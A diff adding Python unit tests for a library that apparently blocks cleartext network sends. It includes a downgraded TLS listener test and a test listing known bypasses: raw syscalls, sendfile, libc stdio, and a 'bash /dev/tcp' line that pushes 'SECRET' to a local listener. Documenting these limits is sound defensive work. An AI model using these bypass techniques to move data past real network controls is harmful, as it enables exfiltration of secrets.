@@ -8,6 +8,7 @@ import ssl
 import sys
 import threading
 import unittest
+import warnings
 
 from naming import Listener, Proxy, certificate, has_namespaces, named
 from sealing import Ran
@@ -143,6 +144,46 @@ class NoRetreat(unittest.TestCase):
             ran = self.run_python("secure(); clear()", port, mode="report")
         self.assertEqual(ran.output.strip().split("\n"), ["HTTP/1.0 200 ok", "sent"], str(ran))
         self.assertEqual(self.stops(ran), ["would_stop"], str(ran))
+
+    def test_what_the_floor_of_the_policy_ended_does_not_go_on_in_the_clear_either(self) -> None:
+        with warnings.catch_warnings():
+            warnings.simplefilter("ignore", DeprecationWarning)
+            old = Listener(certificate("one.example"))
+            old.context.minimum_version = ssl.TLSVersion.TLSv1
+            old.context.maximum_version = ssl.TLSVersion.TLSv1_1
+        old.context.set_ciphers("ALL:@SECLEVEL=0")
+        with old as port:
+            ran = self.run_python("secure(); clear()", port)
+        self.assertEqual(ran.output.split("\n")[:2], ["refused", "stopped 32"], str(ran))
+        self.assertNotIn(b"SECRET", b"".join(old.heard))
+
+    def test_what_is_not_stopped(self) -> None:
+        # Each row of docs/not-stopped.md that says so: where one does not hold any more, the row is wrong.
+        begin = "import ctypes, subprocess, tempfile\nlibc = ctypes.CDLL(None)\nsecure()\n"
+        open_one = "s = socket.create_connection(('one.example', port))\n"
+        sendfile = (
+            "f = tempfile.TemporaryFile(); f.write(b'SECRET'); f.flush(); os.sendfile(s.fileno(), f.fileno(), 0, 6)"
+        )
+        stdio = (
+            "libc.fdopen.restype = ctypes.c_void_p; f = ctypes.c_void_p(libc.fdopen(s.fileno(), b'w'))\n"
+            "libc.fputs(b'SECRET', f); libc.fflush(f)"
+        )
+        child = "subprocess.run(['bash', '-c', f'echo SECRET > /dev/tcp/127.0.0.11/{port}'])"
+        for name, code in (
+            ("a bare system call", open_one + "libc.syscall(1, s.fileno(), b'SECRET', 6)"),
+            ("sendfile", open_one + sendfile),
+            ("stdio", open_one + stdio),
+            ("another program", child),
+            ("another address", "clear('two.example')"),
+        ):
+            false = Listener(certificate("two.example"))
+            with self.subTest(name), false as port:
+                ran = self.run_python(begin + code + "\nimport time; time.sleep(0.2)", port)
+                self.assertIn(b"SECRET", b"".join(false.heard), str(ran))
+        broken = Listener(certificate("one.example"), starts_with=b"\x16", answer=b"500 what do you want\r\n")
+        with broken as port:
+            ran = self.run_python("secure(); clear(data=b'\\x17SECRET')", port)
+        self.assertIn("sent", ran.output, str(ran))
 
     def test_a_child_inherits_what_was_refused(self) -> None:
         with Listener(certificate("two.example")) as port:
